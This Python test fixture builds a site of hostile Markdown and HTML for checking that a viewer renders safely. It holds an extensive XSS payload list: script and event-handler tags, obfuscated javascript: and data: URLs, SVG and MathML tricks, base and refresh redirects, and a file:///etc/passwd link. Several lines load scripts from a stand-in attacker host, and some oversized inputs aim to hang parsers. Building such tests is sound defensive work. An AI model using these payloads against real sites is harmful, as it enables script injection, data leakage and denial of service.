"""Markdown and HTML that would run code, or leave the origin, in a careless viewer.

The kinds are those of published XSS lists: script elements, event handlers, script URLs in every spelling, data
URLs, SVG and MathML, style and base elements, broken and nested markup, entities, and breaking out of code, links and
titles.
"""

from html import escape
from itertools import product

from testkit.sites import Answer, page

# What an attack runs: the watched page reports a dialog, an error or a foreign request.
RUN = "alert(1)"
ELSEWHERE = "https://attacker.invalid"

HTML = (
    "<script>{run}</script>",
    "<script src={url}/x.js></script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img src='x'onerror='{run}'>",
    "<img src={url}/pixel.png>",
    "<img srcset='{url}/a.png 1x'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:{run}'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src={url}></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<body onload={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<button formaction='javascript:{run}'>x</button>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import '{url}/x.css';</style>",
    "<link rel=stylesheet href={url}/x.css>",
    "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a ping={url} href='#'>x</a>",
    "<div style='background:url({url}/x.png)'>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<textarea></textarea><script>{run}</script>",
    "<title></title><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<!-- --!><img src=x onerror={run}> -->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "<xss contenteditable onblur={run} autofocus>x</xss>",
    "<select><style></select><img src=x onerror={run}></style>",
    "<p id='</p><script>{run}</script>'>x",
)
SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java&#10;script:{run}",
    "java&Tab;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "javascript&colon;{run}",
    "\u0001javascript:{run}",
    "vbscript:{run}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:{url}/1",
    "file:///etc/passwd",
    "view-source:javascript:{run}",
    "//attacker.invalid/x",
    "{url}/x",
)
MARKDOWN = (
    "[x]({link})",
    "![x]({link})",
    "[x](<{link}>)",
    "<{link}>",
    "[x]: {link}\n\n[x]",
    "[![x]({link})]({link})",
    '[x]({link} "title\' onmouseover={run}")',
    "| a |\n|---|\n| [x]({link}) |",
    "- [x]({link})",
    "> [x]({link})",
    "# [x]({link})",
    "*[x]({link})*",
    "`[x]({link})` [y]({link})",
    "~~[x]({link})~~",
    "[x\n]({link})",
    "[x](\n{link}\n)",
    "1. ![x]({link} 'a')",
    "[a]({link})[b]({link})",
    "[^1]: {link}\n\n[^1]",
    "[x]({link}){{onclick={run}}}",
)
OTHERS = (
    "```html\n<script>{run}</script>\n```\n<script>{run}</script>",
    "````\n```\n````<img src=x onerror={run}>",
    "`` ` ``<svg onload={run}>",
    "---\ntitle: <script>{run}</script>\n---\n<script>{run}</script>",
    "[" * 5000,
    "> " * 3000 + "x",
    "- " * 2000 + "x",
    "*" * 5000 + "x" + "*" * 5000,
    "|" * 3000,
    "\u202e<script>{run}</script>\u202c",
    "<a href='javascript:{run}'>" * 200,
)


def attacks() -> list[str]:
    """Return every attack."""
    texts = [*HTML, *OTHERS]
    texts += [shape.replace("{link}", link) for shape, link in product(MARKDOWN, SCHEMES)]
    texts += [f"> {text}" for text in HTML]
    texts += [f"- item\n\n  {text}" for text in HTML]
    texts += [f"| a |\n|---|\n| {text} |" for text in HTML if "\n" not in text]
    return [
        text.replace("{run}", RUN).replace("{url}", ELSEWHERE).replace("{{", "{").replace("}}", "}")
        for text in texts
    ]


PER_PAGE = 20
# Long rules and table lines are no attack and must still be rendered.
ORDINARY = (
    "# Ordinary file\n\nA rule and a table with long lines of dashes follow this sentence.\n\n"
    f"{'-' * 90}\n\n| name | value |\n|{'-' * 90}|{'-' * 90}|\n| one | two |\n"
)
# Lists and line breaks in cells are tags in the Markdown.
CELLS = (
    "The cells of a table contain lists.<table><tr><th>For</th><th>Against</th></tr>"
    "<tr><td><ul><li>cheap</li><li>fresh</li></ul></td><td>dark<br>heavy</td></tr></table>"
)


# Markup for which a parser may search the whole text again and again. Each text is a file of its own.
SLOW = ("a_" * 140_000, "- a\n  [ ] " * 25_000, "> [a]: x\nb\n" * 20_000)


def attack_pages() -> dict[str, Answer]:
    """Return a site whose pages hold the attacks: as text of HTML pages, in titles, and as Markdown files."""
    all_attacks = attacks()
    groups = [all_attacks[start : start + PER_PAGE] for start in range(0, len(all_attacks), PER_PAGE)]
    pages: dict[str, Answer] = {}
    for number, group in enumerate(groups):
        body = "".join(f"<p>{escape(text)}</p><div>{text}</div>" for text in group)
        pages[f"/html{number}.html"] = Answer(page(escape(group[0][:80]), f"Attack page {number}. {body}"))
        text = f"# Attack file {number}\n\nThese lines try to run code.\n\n" + "\n\n".join(group)
        pages[f"/text{number}.md"] = Answer(text, content_type="text/markdown; charset=utf-8")
    for number, text in enumerate(SLOW):
        pages[f"/slow{number}.md"] = Answer(
            f"# Slow file {number}\n\n{text}", content_type="text/markdown; charset=utf-8"
        )
    pages["/ordinary.md"] = Answer(ORDINARY, content_type="text/markdown; charset=utf-8")
    pages["/cells.html"] = Answer(page("Lists in cells", CELLS))
    links = tuple(pages)
    pages["/"] = Answer(page("Attacks", "An index of hostile pages.", links))
    return pages
